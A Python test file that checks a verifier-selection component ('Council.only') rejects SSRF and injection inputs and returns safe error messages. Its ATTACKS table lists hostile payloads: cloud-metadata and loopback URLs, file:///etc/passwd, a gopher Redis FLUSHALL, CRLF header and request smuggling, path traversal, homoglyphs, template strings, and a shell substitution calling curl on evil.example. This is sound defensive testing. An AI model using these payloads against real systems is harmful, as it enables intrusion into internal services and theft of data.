"""Server-side request forgery through the choice of verifiers: nothing of a request becomes an address.

The choice is one of a finite set of configured values. Each attack here must be refused; and what is refused must not do
harm in an error message or a log line either.
"""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foureyes.errors import InputError
from foureyes.guard import Council, CouncilMember
from foureyes.models.scripted import ScriptedJudge

ACME = Council(
    [
        CouncilMember(ScriptedJudge(provider="openai", name="gpt-5")),
        CouncilMember(ScriptedJudge(provider="local", name="qwen3-8b")),
    ]
)

ATTACKS = {
    "cloud metadata": "http://169.254.169.254/latest/meta-data/",
    "loopback": "http://127.0.0.1:6379/",
    "loopback as one number": "http://2130706433/",
    "loopback in IPv6": "http://[::ffff:127.0.0.1]/",
    "a file": "file:///etc/passwd",
    "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "a scheme-relative address": "//evil.example/v1",
    "credentials before the host": "https://api.openai.com@evil.example/v1",
    "a backslash for the host": "https://api.openai.com\\@evil.example",
    "a model reference": "gpt-5@https://evil.example/v1",
    "a weights reference": "hf:evil/model",
    "a local file as weights": "gguf:/etc/passwd",
    "a server reference": "http://evil.example/v1#gpt-5",
    "a path upwards": "../../../v1/models/gpt-5",
    "a path upwards, encoded": "..%2f..%2fgpt-5",
    "another path of the same server": "gpt-5/../../admin",
    "a query": "gpt-5?api_version=evil",
    "a fragment": "gpt-5#evil",
    "a header": "gpt-5\r\nAuthorization: Bearer stolen",
    "a header, encoded": "gpt-5%0d%0aHost:%20evil.example",
    "a request smuggled in": "gpt-5\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n",
    "a null byte": "gpt-5\x00.evil.example",
    "a line for the log": "gpt-5\n2026-01-01 level=info safe=true",
    "an escape sequence for the terminal": "gpt-5\x1b[2J",
    "text turned around": "\u202egpt-5",
    "a zero-width space": "gpt\u200b-5",
    "a soft hyphen": "gpt\u00ad-5",
    "a Cyrillic letter": "g\u0440t-5",
    "full-width letters": "ｇｐｔ-5",
    "another hyphen": "gpt\u20115",
    "another case": "GPT-5",
    "space around it": " gpt-5 ",
    "a template": "{{config.key}}",
    "a format": "{0.key}",
    "a variable": "${OPENAI_API_KEY}",
    "a shell": "$(curl evil.example)",
    "a JSON object in text": '{"base_url": "https://evil.example"}',
    "nothing": "",
    "a lone surrogate": "gpt-5\ud800",
    "a very long one": "gpt-5" * 100_000,
}


@pytest.mark.parametrize("model", ATTACKS.values(), ids=ATTACKS)
def test_no_model_name_leads_anywhere_but_to_a_configured_verifier(model):
    for pair in (("openai", model), (model, "gpt-5"), (model, model)):
        with pytest.raises(InputError, match="no such verifier") as raised:
            ACME.only([pair])
        said = str(raised.value)
        assert said.isascii()
        assert said.isprintable()
        assert len(said) < 300


class Sly(str):
    """Text that claims to equal everything."""

    __slots__ = ()

    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


def test_even_a_text_that_equals_everything_gets_the_configured_address():
    try:
        chosen = ACME.only([(Sly("openai"), Sly("gpt-5"))])
    except InputError:
        return
    assert set(chosen.members) <= set(ACME.members)


@given(st.lists(st.tuples(st.text(), st.text()), max_size=4))
def test_whatever_is_asked_for_what_is_asked_is_configured(requested):
    try:
        chosen = ACME.only(requested)
    except InputError:
        return
    assert set(chosen.members) <= set(ACME.members)


def test_a_huge_list_is_refused_by_its_length():
    with pytest.raises(InputError, match="1000000 verifiers"):
        ACME.only([("openai", "gpt-5")] * 1_000_000)
